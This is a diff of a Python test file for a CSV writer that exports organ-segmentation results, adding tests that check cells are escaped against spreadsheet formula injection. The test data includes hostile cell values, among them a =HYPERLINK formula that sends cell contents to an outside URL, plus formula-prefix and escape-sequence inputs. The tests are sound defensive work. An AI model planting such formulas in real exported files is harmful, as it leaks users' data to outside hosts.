@@ -66,12 +66,37 @@ def test_digits_are_those_that_mean_something(tmp_path: Path) -> None:
     assert rows == [("1.235", "-0.13", "0.9877"), ("0.000", "0.00", "0.0000")]
 
 
-def test_a_name_that_is_no_text_is_quoted_in_a_sentence_of_one_line(tmp_path: Path) -> None:
-    bad = "\udcff" * 2
-    with pytest.raises(OSError, match=r"^'.*a\.csv' could not be written, because '.*' is not valid text; rename the "
-                                      r"volume\.$") as error:
-        write_csv([result(bad + "x" * 500)], tmp_path / "a.csv")
-    assert len(str(error.value)) < len(str(tmp_path)) + 400 and not list(tmp_path.iterdir())
+def rows_of(path: Path, *results: Result) -> list[dict[str, str]]:
+    write_csv(results, path)
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_a_name_that_is_no_text_is_spelt_out(tmp_path: Path) -> None:
+    assert rows_of(tmp_path / "a.csv", result("M\udcfcller"))[0]["volume"] == r"M\udcfcller"
+
+
+@pytest.mark.parametrize(("name", "written"), [
+    ('=HYPERLINK("http://example.org/?"&A1,"open")', '\'=HYPERLINK("http://example.org/?"&A1,"open")'),
+    ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", r"\t=1"), ("\r=1", r"\r=1"),
+    ("a\n=1", r"a\n=1"), (" =1", " '=1"), ("\uff1d1", "'\uff1d1"), ("a;=1", "a;'=1"), ("a; +1", "a; '+1"),
+    ("\x1b[31m", r"\x1b[31m"), ("T1-weighted = 3", "T1-weighted = 3"), ("a@b", "a@b")])
+def test_no_cell_is_a_formula(tmp_path: Path, name: str, written: str) -> None:
+    organ = {**LIVER, "name": name, "title": name, "mean_intensity": -12.5}
+    row = rows_of(tmp_path / "a.csv", result(name, organs=(organ,)))[0]
+    assert (row["volume"], row["organ"], row["title"]) == (written, written, written)
+    assert row["mean_intensity"] == "-12.50", "a number stays one"
+    lines = (tmp_path / "a.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert len(lines) == 2
+
+
+def test_what_a_damaged_file_says_in_place_of_numbers_is_text_or_nothing(tmp_path: Path) -> None:
+    organ = {"name": "liver", "title": "Liver", "found": "=1", "voxels": "=1", "volume_ml": "=1", "confidence": [],
+             "mean_intensity": True, "unknown": "=1"}
+    row = rows_of(tmp_path / "a.csv", result(organs=(organ, {})))[0]
+    assert (row["found"], row["voxels"], row["volume_ml"]) == ("'=1", "'=1", "")
+    assert row["confidence"] == row["mean_intensity"] == ""
+    assert cells(organ)[1:] == ("-", "-", "-")
 
 
 def test_confidence_is_told_in_percent() -> None:
